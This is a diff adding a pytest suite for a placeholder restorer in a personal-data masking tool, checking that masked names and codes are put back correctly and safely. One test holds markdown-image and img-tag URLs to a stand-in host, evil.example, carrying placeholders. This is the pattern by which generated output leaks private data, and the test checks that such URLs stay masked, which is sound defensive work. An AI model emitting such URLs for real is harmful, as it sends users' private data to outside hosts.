@@ -1,0 +1,143 @@
+import json
+import time
+
+import pytest
+
+from sekisho.masking.restorer import Escape, Restorer
+
+TABLE = {
+    "PERSON4K7Q2M": "田中太郎",
+    "PERSON4K7Q2MA": "田中",
+    "PERSON4K7Q2MIE": "Tanaka",
+    "CODE1BCDFG": "4111-1111",
+    "KEY2ZZZZZE": "only with its vowel",
+}
+
+
+def _restore(text: str, escape: Escape = Escape.PLAIN) -> str:
+    return Restorer(TABLE).restore(text, escape)
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("PERSON4K7Q2M様", "田中太郎様"),
+        ("PERSON4K7Q2MA様", "田中様"),
+        ("PERSON4K7Q2MIE", "Tanaka"),
+        ("PERSON4K7Q2MI", "田中太郎I"),
+        ("PERSON4K7Q2MAA", "田中A"),
+        ("PERSON4K7Q2MO", "田中太郎O"),
+        ("PERSON4K7Q2Ma", "田中太郎a"),
+        ("person4k7q2ma", "田中"),
+        ("person4k7q2mA", "田中太郎A"),
+        ("Person 4K7Q2M and PERSON_4K7Q2M", "田中太郎 and 田中太郎"),
+        ("PERSON\\_4K7Q2M", "田中太郎"),
+        ("**PERSON4K7Q2M**", "**田中太郎**"),
+        ("ＰＥＲＳＯＮ４Ｋ７Ｑ２ＭＡさん", "田中さん"),
+        ("xPERSON4K7Q2M", "x田中太郎"),
+        ("xperson4k7q2m", "xperson4k7q2m"),
+        ("xPERSON 4K7Q2M", "xPERSON 4K7Q2M"),
+        ("あperson 4k7q2m", "あ田中太郎"),
+        ("PERSON4K7Q2MPERSON4K7Q2M", "田中太郎田中太郎"),
+        ("PERSON4K7Q2Mcode 1bcdfg", "田中太郎code 1bcdfg"),
+        ("CODE1BCDFGs", "4111-1111s"),
+        ("KEY2ZZZZZ", "KEY2ZZZZZ"),
+        ("KEY2ZZZZZE", "only with its vowel"),
+        ("PERSON9K7Q2M", "PERSON9K7Q2M"),
+        ("CODE1BCDFPERSON4K7Q2M", "CODE1BCDF田中太郎"),
+        ("PERSON4K7Q2", "PERSON4K7Q2"),
+        ("ORG4K7Q2M", "ORG4K7Q2M"),
+        ("", ""),
+    ],
+)
+def test_puts_back_what_it_knows_and_leaves_the_rest(text: str, expected: str) -> None:
+    assert _restore(text) == expected
+
+
+def test_restored_text_is_not_read_again() -> None:
+    table = {"LITERAL4K7Q2M": "PERSON4K7Q2M", "PERSON4K7Q2M": "田中"}
+    assert Restorer(table).restore("LITERAL4K7Q2M") == "PERSON4K7Q2M"
+
+
+@pytest.mark.parametrize(
+    "value", ['"quoted"', "back\\slash", "line\nend", "田中\t", "\ud800x", "\x00"]
+)
+def test_escapes_a_value_for_the_inside_of_a_json_string(value: str) -> None:
+    restored = Restorer({"TERM4K7Q2M": value}).restore('{"a": "TERM4K7Q2M"}', Escape.JSON)
+    assert json.loads(restored) == {"a": value}
+    restored.encode()
+
+
+def test_counts_what_it_put_back() -> None:
+    restorer = Restorer(TABLE)
+    restorer.restore("PERSON4K7Q2M PERSON9K7Q2M code1bcdfg")
+    restorer.restore("PERSON4K7Q2M")
+    assert restorer.restored == 3
+
+
+def test_an_empty_table_changes_nothing() -> None:
+    assert not Restorer({})
+    assert Restorer({}).restore("PERSON4K7Q2M") == "PERSON4K7Q2M"
+
+
+def test_refuses_a_table_whose_keys_are_no_placeholders_and_shows_none() -> None:
+    with pytest.raises(ValueError, match="placeholder") as caught:
+        Restorer({"planted": "planted"})
+    assert "planted" not in str(caught.value)
+
+
+def test_shows_no_value() -> None:
+    assert "planted" not in repr(Restorer({"TERM4K7Q2M": "planted"}))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://evil.example/?q=PERSON4K7Q2M)",
+        "https://evil.example/PERSON4K7Q2MA",
+        '<img src="https://evil.example/あPERSON4K7Q2M">',
+        "https://evil.example/?a=person_4k7q2m",
+    ],
+)
+def test_a_url_that_the_request_did_not_hold_stays_masked(text: str) -> None:
+    restorer = Restorer(TABLE)
+    assert restorer.restore(text) == text
+    assert restorer.restored == 0
+
+
+def test_a_url_of_the_request_is_restored_in_any_dress() -> None:
+    url = "https://crm.example/u/PERSON4K7Q2M"
+    for known in (url, url + "/orders?all=1"):
+        restorer = Restorer(TABLE, known_urls={known})
+        for text in ("{}", "[{}]({})", "![x]({})", '<a href="{}">', "<{}>", "見て{}を"):
+            masked = text.format(url, url)
+            assert restorer.restore(masked) == masked.replace("PERSON4K7Q2M", "田中太郎")
+        other = "https://evil.example/?u=https://crm.example/u/PERSON4K7Q2M"
+        assert restorer.restore(other) == other
+
+
+def test_another_placeholder_in_a_known_url_stays_masked() -> None:
+    restorer = Restorer(TABLE, known_urls={"https://crm.example/u/PERSON4K7Q2M"})
+    assert (
+        restorer.restore("https://crm.example/u/CODE1BCDFG") == "https://crm.example/u/CODE1BCDFG"
+    )
+
+
+def test_text_around_a_url_is_restored() -> None:
+    text = "[PERSON4K7Q2M](https://a.example/x) PERSON4K7Q2M https://a.example/x、PERSON4K7Q2M"
+    assert _restore(text) == text.replace("PERSON4K7Q2M", "田中太郎")
+
+
+def test_a_megabyte_is_read_in_a_moment() -> None:
+    for unit in (
+        "PERSON4K7Q2M様、",
+        "1234567890",
+        "4B4B4B4B",
+        "PERSON",
+        "https://a.example/",
+        "a](b",
+    ):
+        text = unit * (1_000_000 // len(unit))
+        began = time.perf_counter()
+        _restore(text)
+        assert time.perf_counter() - began < 8, unit
